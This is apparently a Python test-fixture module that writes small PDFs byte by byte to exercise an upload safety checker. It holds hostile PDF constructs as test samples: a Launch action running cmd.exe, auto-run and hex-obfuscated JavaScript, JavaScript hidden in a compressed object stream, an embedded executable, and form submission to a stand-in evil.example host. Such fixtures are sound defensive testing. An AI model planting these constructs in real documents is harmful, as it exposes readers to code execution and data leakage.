"""Small PDFs written byte by byte for the upload tests: a clean one, and one of each kind of
active content portal/core/pdf_safety.py refuses — JavaScript run on opening, a Launch action,
an embedded file, a name obfuscated with #xx escapes, JavaScript hidden in a compressed object
stream, and more. Written by hand (not by a PDF library) so that each file holds exactly the
construct under test, the way a hostile file would."""

from __future__ import annotations

import struct
import zlib

CONTENT = b"BT /F1 12 Tf 20 50 Td (Sinergi) Tj ET"


def build(objects: list[bytes], *, packed: frozenset[int] = frozenset()) -> bytes:
    """A PDF of `objects` (object n is objects[n - 1]; object 1 is the catalogue), with a
    cross-reference table; or, with `packed` object numbers, those objects in a
    Flate-compressed object stream and a cross-reference stream (PDF 1.5)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, body in enumerate(objects, start=1):
        if number in packed:
            continue
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    if not packed:
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        for number in range(1, len(objects) + 1):
            out += b"%010d 00000 n \n" % offsets[number]
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
        out += b"startxref\n%d\n%%%%EOF\n" % xref
        return bytes(out)
    # The object stream: "number offset" pairs, then the objects.
    stream_number = len(objects) + 1
    heads, bodies = [], b""
    for number in sorted(packed):
        heads.append(b"%d %d" % (number, len(bodies)))
        bodies += objects[number - 1] + b"\n"
    head = b" ".join(heads) + b"\n"
    data = zlib.compress(head + bodies)
    offsets[stream_number] = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n" % (
        stream_number,
        len(packed),
        len(head),
        len(data),
    )
    out += b"stream\n" + data + b"\nendstream\nendobj\n"
    # The cross-reference stream: type 1 (offset) or 2 (in the object stream, index).
    xref_number = stream_number + 1
    offsets[xref_number] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    index = {number: i for i, number in enumerate(sorted(packed))}
    for number in range(1, xref_number + 1):
        if number in packed:
            rows.append(struct.pack(">BIH", 2, stream_number, index[number]))
        else:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
    table = zlib.compress(b"".join(rows))
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n" % (xref_number, xref_number + 1, len(table))
    )
    out += table + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def document(
    catalog: bytes = b"", page: bytes = b"", extra: list[bytes] | None = None, **kwargs
) -> bytes:
    """A one-page document; `catalog` and `page` are added to those dictionaries; `extra`
    objects are numbered from 5."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R "
        b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> "
        b">> " + page + b" >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(CONTENT), CONTENT),
        *(extra or []),
    ]
    return build(objects, **kwargs)


JS = b"<< /S /JavaScript /JS (app.alert\\('Sinergi'\\);) >>"

CLEAN = document()
# What LibreOffice and Acrobat write: open at the first page; a web link on the page.
CLEAN_WITH_NAVIGATION = document(
    catalog=b"/OpenAction [3 0 R /XYZ null null 0] /Outlines 6 0 R",
    page=b"/Annots [5 0 R]",
    extra=[
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 20] "
        b"/A << /S /URI /URI (https://sinergi.example/) >> >>",
        b"<< /Type /Outlines /Count 0 >>",
    ],
)

ACTIVE = {
    "javascript-on-open": document(catalog=b"/OpenAction 5 0 R", extra=[JS]),
    "launch": document(
        page=b"/Annots [5 0 R]",
        extra=[
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 20] "
            b"/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>"
        ],
    ),
    "embedded-file": document(
        catalog=b"/Names << /EmbeddedFiles << /Names [(nota.exe) 5 0 R] >> >>",
        extra=[
            b"<< /Type /Filespec /F (nota.exe) /EF << /F 6 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        ],
    ),
    "hex-obfuscated-javascript": document(
        catalog=b"/OpenAction << /S /J#61va#53cript /#4A#53 (app.alert\\(1\\);) >>"
    ),
    "javascript-in-object-stream": document(
        catalog=b"/OpenAction 5 0 R", extra=[JS], packed=frozenset({1, 5})
    ),
    "javascript-name-tree": document(
        catalog=b"/Names << /JavaScript << /Names [(init) 5 0 R] >> >>", extra=[JS]
    ),
    "page-additional-action": document(page=b"/AA << /O 5 0 R >>", extra=[JS]),
    "uri-on-open": document(catalog=b"/OpenAction << /S /URI /URI (https://evil.example/) >>"),
    "submit-form": document(
        catalog=b"/AcroForm << /Fields [5 0 R] >>",
        page=b"/Annots [5 0 R]",
        extra=[
            b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (kirim) /Rect [0 0 50 20] /P 3 0 R "
            b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >> >>"
        ],
    ),
    "xfa-form": document(catalog=b"/AcroForm << /Fields [] /XFA 5 0 R >>", extra=[b"[]"]),
    "rich-media": document(
        page=b"/Annots [5 0 R]",
        extra=[b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 50 20] >>"],
    ),
    "file-attachment-annotation": document(
        page=b"/Annots [5 0 R]",
        extra=[
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 50 20] "
            b"/FS << /Type /Filespec /F (a.exe) >> >>"
        ],
    ),
    "javascript-chained-after-goto": document(
        catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>", extra=[JS]
    ),
}

# Not PDFs a reader could open, though libmagic calls them PDF.
UNREADABLE = {
    "garbage": b"%PDF-1.7\n" + bytes(range(256)) * 4,
    "no-catalogue": b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
}
